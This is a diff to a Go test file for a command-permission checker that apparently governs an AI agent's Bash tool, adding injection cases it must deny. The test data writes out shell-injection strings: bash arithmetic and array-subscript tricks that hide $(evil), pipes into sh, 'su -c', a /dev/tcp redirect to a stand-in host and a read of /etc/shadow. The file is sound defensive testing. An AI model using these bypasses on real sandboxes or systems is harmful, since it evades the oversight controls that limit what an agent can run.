@@ -264,11 +264,43 @@ var injections = []struct {
 	{"git status < /etc/shadow", false},
 	{"git status > /dev/tcp/evil/80", false},
 	{"git @(a|$(evil)) status", false},
+	// What bash evaluates as arithmetic it expands a second time, quoted or not.
+	{"git status; let 'a[$(evil)]=1'", false},
+	{"git status; [[ 'a[$(evil)]' -eq 0 ]]", false},
+	{`git status; [[ "a[\$(evil)]" -eq 0 ]]`, false},
+	{"git status; [[ -v 'a[$(evil)]' ]]", false},
+	{"git status $(('a[$(evil)]'))", false},
+	{"git status $((1+'a[$(evil)]'))", false},
+	{"git status ${x['$(evil)']}", false},
+	{`git status "${x['$(evil)']}"`, false},
+	{"git status <<<\"${x['$(evil)']}\"", false},
+	{"git status ${!x}", false},
+	{"git log -n $((2 + 3))", true},
+	{"git log ${x:0:7}", true},
+	{`if [[ "$x" == 'a' ]]; then git log; fi`, true},
+	{"if [[ $x -gt 3 ]]; then git log; fi", true},
+	{"git log -n $(( $(git rev-list --format='%h') + 1 ))", true},
+	{"bash <<<evil", false},
+	{"git log | sh", false},
 	{"git status; (", false},
 	{"git status '", false},
 	{"git status \x00; evil", false},
 	{"git status " + strings.Repeat("x", maxLine), false},
 	{strings.Repeat("git status;", maxCommands+1), false},
+	{nested("env", 30, maxNested+1), false},
+	{nested("sh -c", 30, maxNested+1), false},
+}
+
+// nested is a line whose every word is a line of the same kind.
+func nested(command string, words, depth int) string {
+	line := "git status"
+	for range depth {
+		if len(line)*words > maxLine/2 {
+			words = 2
+		}
+		line = command + strings.Repeat(" "+quote(line), words)
+	}
+	return line
 }
 
 func TestCommandInjection(t *testing.T) {
@@ -289,7 +321,9 @@ func TestCommandInjection(t *testing.T) {
 	for _, line := range []string{
 		"evil x", "/usr/bin/evil x", "A=1 evil x", `e"vi"l x`, `ev\il x`, "sudo evil x", "sudo -u root evil x", "env A=1 evil x", "timeout 5 evil x",
 		"xargs -n 1 evil x", "find . -exec evil x {} +", "sh -c 'evil x'", "sudo sh -c 'evil x'", "bash --norc -c 'evil x'", "eval evil x", "git $(evil x)",
-		"$E x", "$(echo evil) x", "ev* x", "( evil x", "nohup setsid evil x &", "exec evil", "if true; then evil; fi",
+		"env -S 'evil x'", "su root -c 'evil x'", "script -qc 'evil x' /dev/null", "watch 'evil x'", "flock f -c 'evil x'", "xargs -I{} sh -c 'evil x {}'",
+		"ssh host evil x", "sh <<X\nevil x\nX", "bash <<<'evil x'", "echo evil x | sh", "echo evil x | bash -s -- y", "bash -i", "let 'a[$(evil x)]'",
+		"x='a[$(evil x)]'; echo ${!x}", "$E x", "$(echo evil) x", "ev* x", "( evil x", "nohup setsid evil x &", "exec evil", "if true; then evil; fi",
 	} {
 		if v := deny.Decide(Read("Bash", input(t, "command", line), Places{Root: "/workspace"})); v.Effect != "deny" {
 			t.Errorf("%q: %+v, want denied", line, v)
@@ -308,16 +342,21 @@ func TestShellsAgree(t *testing.T) {
 		}
 		dir := t.TempDir()
 		mark := filepath.Join(dir, "ran")
-		for name, text := range map[string]string{"git": "#!/bin/sh\nexit 0\n", "evil": "#!/bin/sh\n: > " + mark + "\n"} {
-			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o755); err != nil {
-				t.Fatal(err)
-			}
-		}
 		allow := home(rule("allow", "command", "git *"))
 		ran := 0
 		for _, c := range injections {
 			if strings.ContainsRune(c.line, 0) || len(c.line) > 1000 {
 				continue
+			}
+			// Some of the lines write over these files.
+			for name, text := range map[string]string{"git": "#!/bin/sh\nexit 0\n", "evil": "#!/bin/sh\n: > " + mark + "\n"} {
+				if have, err := os.ReadFile(filepath.Join(dir, name)); err == nil && string(have) == text {
+					continue
+				}
+				_ = os.Remove(filepath.Join(dir, name))
+				if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o755); err != nil {
+					t.Fatal(err)
+				}
 			}
 			ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second) // a line that loops must not hang the test
 			cmd := exec.CommandContext(ctx, bin, "-c", c.line)
